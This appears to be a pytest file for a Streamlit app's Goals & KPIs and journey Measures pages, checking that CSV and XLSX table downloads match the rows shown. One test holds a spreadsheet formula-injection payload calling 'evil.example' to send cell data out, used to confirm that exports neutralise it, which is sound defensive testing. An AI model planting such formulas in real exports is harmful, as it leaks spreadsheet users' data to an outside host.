"""Every table on the Goals & KPIs page and the journey's Measures tab has CSV
and XLSX downloads of the rows it shows, driven with AppTest on the demo
workspace.

The bytes a download button holds are read from the in-memory media store
AppTest gives each run: the button's URL names the stored file.
"""

import datetime
import io
from pathlib import Path

import openpyxl
import pytest
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest, app_test

from app_pages.shared import md
from journeys import goals, maps, surveys
from journeys.access import DEMO_EDITOR
from journeys.importers import SourceFile
from journeys.models import Goal
from journeys.tabular import read_table
from journeys.workspace import Workspace

ROOT = Path(__file__).resolve().parent.parent
GOALS_PAGE = str(ROOT / "app_pages" / "goals_kpis.py")
JOURNEYS_PAGE = str(ROOT / "app_pages" / "journeys.py")
TAX = "File an online tax return"
CARERS = "Apply for Carer's Allowance"
TAX_GOAL = "Fewer people give up on their tax return at document upload"
VA_GOAL = "Veterans trust VA health care"


@pytest.fixture
def db(demo_db) -> Path:
    return demo_db


@pytest.fixture
def stores(monkeypatch) -> list[MemoryMediaFileStorage]:
    """The media store of each AppTest run, newest last."""
    made = []

    class Recording(MemoryMediaFileStorage):
        def __init__(self, *args, **kwargs) -> None:
            super().__init__(*args, **kwargs)
            made.append(self)

    monkeypatch.setattr(app_test, "MemoryMediaFileStorage", Recording)
    return made


def run(at: AppTest) -> AppTest:
    at.run()
    assert not at.exception, at.exception
    return at


def open_section(section: str) -> AppTest:
    at = AppTest.from_file(GOALS_PAGE, default_timeout=60)
    at.session_state["kpi-section"] = section
    return run(at)


def both_buttons(at: AppTest, key: str) -> None:
    """The view's CSV and XLSX buttons are there, each with its file."""
    keys = {b.key for b in at.download_button}
    assert {f"{key}-csv", f"{key}-xlsx"} <= keys, sorted(keys)


def downloaded(at: AppTest, stores: list, key: str) -> bytes:
    """The bytes of the download button ``key`` from the last run."""
    url = at.download_button(key=key).proto.url
    return stores[-1].get_file(url.rsplit("/", 1)[-1]).content


def csv_rows(at: AppTest, stores: list, key: str) -> list[dict]:
    return read_table(downloaded(at, stores, f"{key}-csv"), "export.csv").rows


def journey_id(db: Path, title: str) -> int:
    with Workspace.open(db) as ws:
        return maps.find_journey(ws, title)


# --- the dashboard ------------------------------------------------------------------


def test_dashboard_tables_and_trends_offer_csv_and_xlsx(db, stores):
    with Workspace.open(db) as ws:
        board = goals.dashboard(ws)
    page = open_section("Dashboard")
    both_buttons(page, "dashboard-overview-export")
    both_buttons(page, "dashboard-worst-moving-export")
    charted = [
        k
        for v in board.goals
        for k in v.kpis
        if any(p.value is not None for p in k.points)
    ]
    assert len(charted) == 12  # every demo goal KPI has values
    for k in charted:
        both_buttons(page, f"goal-{k.goal_id}-kpi-{k.row['id']}-trend-export")

    # Overview: one row per goal, as shown.
    overview = csv_rows(page, stores, "dashboard-overview-export")
    shown = next(t.value for t in page.table if "KPIs" in t.value.columns)
    # The page escapes typed text for Markdown; the file holds it as typed.
    assert [md(r["Goal"]) for r in overview] == list(shown["Goal"])
    va = next(r for r in overview if r["Goal"] == VA_GOAL)
    assert va["Owner"] == "Department of Veterans Affairs"

    # Worst moving: VA trust went 4.39 -> 4.42 against 4.66 (its first value,
    # the baseline) to 4.70: 0.03 of 0.04, +0.75 of the way, unrounded.
    worst = csv_rows(page, stores, "dashboard-worst-moving-export")
    moving = next(t.value for t in page.table if "Movement" in t.value.columns)
    assert [md(r["KPI"]) for r in worst] == list(moving["KPI"])
    trust = next(r for r in worst if r["KPI"] == "A-11 confidence / trust")
    assert float(trust[goals.MOVEMENT]) == pytest.approx(0.75)
    assert (trust["Latest"], trust["Target"], trust["Unit"]) == (
        "4.42",
        "4.7",
        "1-5 mean",
    )

    # The trust trend: five quarters, FY2019 Q1 to FY2020 Q1, target 4.7.
    view = next(v for v in board.goals if v.goal["title"] == VA_GOAL)
    k = next(k for k in view.kpis if k.row["kpi_name"] == "A-11 confidence / trust")
    trend = csv_rows(page, stores, f"goal-{k.goal_id}-kpi-{k.row['id']}-trend-export")
    assert [(r["Period start"], r["Value"]) for r in trend] == [
        ("2018-10-01", "4.66"),
        ("2019-01-01", "4.67"),
        ("2019-04-01", "4.38"),
        ("2019-07-01", "4.39"),
        ("2019-10-01", "4.42"),
    ]
    assert {r["Target"] for r in trend} == {"4.7"}


def test_dashboard_exports_follow_the_filters(db, stores):
    page = open_section("Dashboard")
    page.selectbox(key="dashboard-journey").set_value(journey_id(db, TAX))
    page.date_input(key="dashboard-end").set_value(datetime.date(2026, 2, 15))
    run(page)
    overview = csv_rows(page, stores, "dashboard-overview-export")
    assert [(r["Goal"], r["Status"]) for r in overview] == [(TAX_GOAL, goals.AT_RISK)]
    worst = csv_rows(page, stores, "dashboard-worst-moving-export")
    # Abandonment at upload, 250 / 950 = 26.315...%, reviewed on 15 Feb 2026.
    upload = next(r for r in worst if r["KPI"] == "Abandonment at a stage")
    assert float(upload["Latest"]) == pytest.approx(26.3157894737)
    assert upload["Review date"] == "2026-02-15"


# --- the journeys section -----------------------------------------------------------


def test_journeys_section_funnels_step_kpis_and_satisfaction(db, stores):
    tax, carers = journey_id(db, TAX), journey_id(db, CARERS)
    page = open_section("Journeys")
    for key in (
        f"journey-{tax}-funnel-export",
        f"journey-{carers}-funnel-export",
        f"journey-{tax}-step-kpis-export",
        f"journey-{carers}-satisfaction-export",
    ):
        both_buttons(page, key)
    funnel = csv_rows(page, stores, f"journey-{tax}-funnel-export")
    upload = next(r for r in funnel if r["Stage"] == "Document upload")
    # 950 reach it and 700 the next stage: 250 lost, 250 / 950 = 26.315...%.
    assert (upload["Users"], upload["Reached next stage"], upload["Lost"]) == (
        "950",
        "700",
        "250",
    )
    assert float(upload["Abandonment (%)"]) == pytest.approx(26.3157894737)
    last = funnel[-1]
    assert (last["Stage"], last["Lost"], last["Abandonment (%)"]) == (
        "Submitted",
        "",
        "",
    )

    step = csv_rows(page, stores, f"journey-{tax}-step-kpis-export")[-1]
    assert (step["KPI"], step["Measured on"]) == ("Completion rate", "this step")
    assert float(step["Latest"]) == pytest.approx(68.0)  # 680 / 1,000

    levels = csv_rows(page, stores, f"journey-{carers}-satisfaction-export")
    # 5,372 of 8,451 answers were "very satisfied": 63.566...%.
    very = levels[-1]
    assert (very["Level"], very["Answers"]) == ("5", "5372")
    assert float(very["Share (%)"]) == pytest.approx(5372 / 8451 * 100)


def test_survey_answers_overview_offers_csv_and_xlsx(db, stores):
    with Workspace.open(db) as ws:
        text = "respondent_id,csat,submitted_at\nr1,5,2024-01-01\nr2,4,2024-02-01\n"
        surveys.import_survey(
            ws,
            DEMO_EDITOR,
            SourceFile("pulse.csv", text.encode()),
            mapping={"csat": "csat"},
            survey="Pulse",
        )
    page = open_section("Journeys")
    both_buttons(page, "survey-answers-export")
    assert csv_rows(page, stores, "survey-answers-export") == [
        {
            "Survey": "Pulse",
            "Measure": "CSAT: satisfaction, 1-5",
            "Question": "csat",
            "Respondents": "2",
            "From partial responses": "0",
            "First month": "2024-01",
            "Last month": "2024-02",
        }
    ]


# --- the goals table ----------------------------------------------------------------


def test_goals_table_export_defuses_a_typed_formula(db, stores):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with Workspace.open(db) as ws:
        goals.create_goal(ws, DEMO_EDITOR, Goal(formula, baseline=3, target=5))
    page = open_section("Add goals and data")
    both_buttons(page, "goals-table-export")
    raw = downloaded(page, stores, "goals-table-export-csv").decode("utf-8-sig")
    # The typed title leads its line with an apostrophe, so no spreadsheet
    # runs it; its numbers and blanks stay as they are.
    line = '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",,,,,,3,5,'
    assert line in raw.splitlines()
    rows = csv_rows(page, stores, "goals-table-export")
    assert len(rows) == 13  # the demo's 12 goal KPIs and the new goal
    book = openpyxl.load_workbook(
        io.BytesIO(downloaded(page, stores, "goals-table-export-xlsx"))
    )
    cells = [row[0] for row in book.active.iter_rows(min_row=2)]
    typed = next(c for c in cells if c.value == formula)
    assert typed.data_type == "s"  # text, not a formula


# --- the journey's Measures tab -----------------------------------------------------


def test_measures_tab_funnel_and_step_kpis_offer_csv_and_xlsx(db, stores):
    tax = journey_id(db, TAX)
    page = AppTest.from_file(JOURNEYS_PAGE, default_timeout=60)
    page.session_state["current_journey_id"] = tax
    page.session_state["journey-view"] = "Measures"
    run(page)
    both_buttons(page, f"journey-measures-{tax}-funnel-export")
    both_buttons(page, f"journey-measures-{tax}-step-kpis-export")
    funnel = csv_rows(page, stores, f"journey-measures-{tax}-funnel-export")
    # 1,000 / 980 / 950 / 700 / 680: 2.0, 3.06..., 26.31..., 2.85...% lost.
    assert [float(r["Abandonment (%)"]) for r in funnel[:-1]] == [
        pytest.approx(2.0),
        pytest.approx(30 / 980 * 100),
        pytest.approx(250 / 950 * 100),
        pytest.approx(20 / 700 * 100),
    ]
    steps = csv_rows(page, stores, f"journey-measures-{tax}-step-kpis-export")
    assert [(r["Step"], r["KPI"], r["Unit"]) for r in steps] == [
        ("Upload supporting documents", "Abandonment at a stage", "%"),
        ("Check your answers and submit the return", "Completion rate", "%"),
    ]
    assert float(steps[1]["Latest"]) == pytest.approx(68.0)
